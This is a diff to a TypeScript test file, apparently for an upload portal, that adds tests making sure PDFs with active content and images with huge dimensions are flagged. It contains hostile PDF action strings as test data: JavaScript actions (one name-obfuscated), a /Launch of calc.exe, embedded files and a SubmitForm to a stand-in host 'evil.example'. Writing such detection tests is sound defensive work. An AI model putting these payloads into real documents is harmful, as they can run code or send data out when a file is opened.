@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { buffer } from 'node:stream/consumers';
 import { describe, it } from 'node:test';
+import { deflateSync } from 'node:zlib';
 import fc from 'fast-check';
 import PDFDocument from 'pdfkit';
 import { jpegScan, pdfScan, pngScan } from '#test/portal/scans.ts';
@@ -99,5 +100,56 @@ describe('a file', () => {
       `${body}2 0 obj\n<< /Type /XRef /Root 1 0 R ${more}/Length 4 >>\nstream\n\0\0\0\0\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`;
     assert.deepEqual(readFile(Buffer.from(stream(''))), whole('application/pdf'));
     assert.deepEqual(readFile(Buffer.from(stream('/Encrypt 3 0 R '))), faulty('locked'));
+  });
+
+  /** A whole PDF with one more object. */
+  const pdfWith = (object: Buffer | string): Buffer => {
+    const head = Buffer.concat([
+      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
+      Buffer.from(object),
+      Buffer.from('\n'),
+    ]);
+    const end = `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R >>\nstartxref\n${head.length}\n%%EOF\n`;
+    return Buffer.concat([head, Buffer.from(end)]);
+  };
+  const packed = (objects: string, filter = '/FlateDecode'): Buffer =>
+    Buffer.concat([
+      Buffer.from(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length 9 >>\nstream\n`),
+      deflateSync(objects),
+      Buffer.from('\nendstream\nendobj'),
+    ]);
+
+  it('that acts when it is opened, or brings another file, is told, however it is written', () => {
+    assert.deepEqual(readFile(pdfWith('2 0 obj\n<< /Type /Page >>\nendobj')), whole('application/pdf'));
+    assert.deepEqual(readFile(pdfWith(packed('2 0 << /Type /Page >>'))), whole('application/pdf'));
+    for (const action of [
+      '/S /JavaScript /JS (app.alert(1))',
+      '/S/#4aava#53cript/JS(x)',
+      '/S /Launch /F (calc.exe)',
+      '/Names << /EmbeddedFiles 3 0 R >>',
+      '/Type /EmbeddedFile',
+      '/S /SubmitForm /F (https://evil.example)',
+    ]) {
+      assert.deepEqual(readFile(pdfWith(`2 0 obj\n<< ${action} >>\nendobj`)), faulty('active'), action);
+      assert.deepEqual(readFile(pdfWith(packed(`2 0 << ${action} >>`))), faulty('active'), action);
+    }
+    for (const filter of ['/LZWDecode', '[/ASCIIHexDecode /FlateDecode]'])
+      assert.deepEqual(readFile(pdfWith(packed('2 0 << >>', filter))), faulty('active'), filter);
+    assert.deepEqual(
+      readFile(pdfWith(packed(' '.repeat(40_000_000)))),
+      faulty('active'),
+      'too much to look at',
+    );
+  });
+
+  it('that would be larger than any paper when it is drawn is told', () => {
+    const png = pngScan();
+    png.writeUInt32BE(2 ** 31 - 1, 16);
+    png.writeUInt32BE(2 ** 31 - 1, 20);
+    assert.deepEqual(readFile(png), faulty('huge'));
+    const jpeg = jpegScan();
+    jpeg.writeUInt16BE(65535, 15);
+    jpeg.writeUInt16BE(65535, 17);
+    assert.deepEqual(readFile(jpeg), faulty('huge'));
   });
 });
